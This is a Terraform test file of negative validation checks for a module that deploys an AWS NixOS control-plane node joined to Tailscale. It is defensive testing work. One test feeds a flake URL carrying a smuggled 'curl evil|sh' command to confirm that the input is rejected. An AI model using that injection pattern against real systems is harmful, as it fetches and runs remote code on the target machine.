# Negative tests: every validation block rejects what it must (plan-time,
# mocked providers). The positive side is covered by the other files, which
# plan the defaults and several variants successfully.

mock_provider "aws" {}
mock_provider "tailscale" {}

run "rejects_bad_name" {
  command = plan

  variables {
    name = "Ducksnest_CP"
  }

  expect_failures = [var.name]
}

run "rejects_reserved_tag_key" {
  command = plan

  variables {
    tags = { "aws:createdBy" = "me" }
  }

  expect_failures = [var.tags]
}

run "rejects_malformed_instance_type" {
  command = plan

  variables {
    instance_type = "t3_medium"
  }

  expect_failures = [var.instance_type]
}

run "rejects_unknown_cpu_credits" {
  command = plan

  variables {
    cpu_credits = "turbo"
  }

  expect_failures = [var.cpu_credits]
}

run "rejects_bad_ami_id" {
  command = plan

  variables {
    ami_id = "ami-XYZ"
  }

  expect_failures = [var.ami_id]
}

run "rejects_foreign_ami_owner" {
  command = plan

  variables {
    ami_owners = ["amazon"]
  }

  expect_failures = [var.ami_owners]
}

run "rejects_non_nixos_ami_pattern" {
  command = plan

  variables {
    ami_name_pattern = "ubuntu/images/*"
  }

  expect_failures = [var.ami_name_pattern]
}

run "rejects_small_root_volume" {
  command = plan

  variables {
    root_volume_size_gib = 8
  }

  expect_failures = [var.root_volume_size_gib]
}

run "rejects_bad_kms_key" {
  command = plan

  variables {
    root_volume_kms_key_id = "alias/ebs"
  }

  expect_failures = [var.root_volume_kms_key_id]
}

run "rejects_vpc_cidr_overlapping_pods" {
  command = plan

  variables {
    vpc_cidr = "10.244.0.0/16"
  }

  expect_failures = [var.vpc_cidr]
}

run "rejects_vpc_cidr_inside_services" {
  command = plan

  variables {
    vpc_cidr = "10.100.0.0/16"
  }

  expect_failures = [var.vpc_cidr]
}

run "rejects_vpc_cidr_containing_the_lan" {
  command = plan

  variables {
    vpc_cidr = "192.168.0.0/16"
  }

  expect_failures = [var.vpc_cidr]
}

run "rejects_vpc_cidr_too_large" {
  command = plan

  variables {
    vpc_cidr = "172.16.0.0/12"
  }

  expect_failures = [var.vpc_cidr]
}

run "rejects_vpc_cidr_not_a_cidr" {
  command = plan

  variables {
    vpc_cidr = "10.42.0.0"
  }

  expect_failures = [var.vpc_cidr]
}

run "rejects_bad_subnet_cidr" {
  command = plan

  variables {
    subnet_cidr = "10.42.1.0/33"
  }

  expect_failures = [var.subnet_cidr]
}

run "rejects_bad_availability_zone" {
  command = plan

  variables {
    availability_zone = "europe"
  }

  expect_failures = [var.availability_zone]
}

run "rejects_vpc_without_subnet" {
  command = plan

  variables {
    vpc_id = "vpc-0a1b2c3d4e5f60718"
  }

  expect_failures = [var.subnet_id]
}

run "rejects_malformed_vpc_id" {
  command = plan

  variables {
    vpc_id    = "my-vpc"
    subnet_id = "subnet-0a1b2c3d4e5f60718"
  }

  expect_failures = [var.vpc_id]
}

run "rejects_uppercase_hostname" {
  command = plan

  variables {
    hostname = "Control-Plane"
  }

  expect_failures = [var.hostname]
}

run "rejects_flake_url_with_attribute" {
  command = plan

  variables {
    flake_url = "github:ducksnest/netd#control-plane"
  }

  expect_failures = [var.flake_url]
}

run "rejects_flake_url_with_shell" {
  command = plan

  variables {
    flake_url = "github:ducksnest/netd;curl evil|sh"
  }

  expect_failures = [var.flake_url]
}

run "rejects_bad_nixos_configuration" {
  command = plan

  variables {
    nixos_configuration = "control plane"
  }

  expect_failures = [var.nixos_configuration]
}

run "rejects_untagged_key" {
  command = plan

  variables {
    tailscale_tags = []
  }

  expect_failures = [var.tailscale_tags]
}

run "rejects_tag_without_prefix" {
  command = plan

  variables {
    tailscale_tags = ["k8s-control-plane"]
  }

  expect_failures = [var.tailscale_tags]
}

run "rejects_missing_own_key" {
  command = plan

  variables {
    create_tailscale_key = false
  }

  expect_failures = [var.tailscale_auth_key]
}

run "rejects_key_that_is_not_a_key" {
  command = plan

  variables {
    create_tailscale_key = false
    tailscale_auth_key   = "hunter2"
  }

  expect_failures = [var.tailscale_auth_key]
}

run "rejects_long_lived_key" {
  command = plan

  variables {
    tailscale_key_expiry_seconds = 7776000
  }

  expect_failures = [var.tailscale_key_expiry_seconds]
}

run "rejects_bad_dns_suffix" {
  command = plan

  variables {
    tailnet_dns_suffix = "ts"
  }

  expect_failures = [var.tailnet_dns_suffix]
}

run "accepts_a_non_overlapping_private_vpc" {
  command = plan

  variables {
    vpc_cidr    = "172.31.0.0/16"
    subnet_cidr = "172.31.8.0/24"
  }

  assert {
    condition     = aws_subnet.this[0].cidr_block == "172.31.8.0/24"
    error_message = "an explicit subnet_cidr must be used"
  }
}
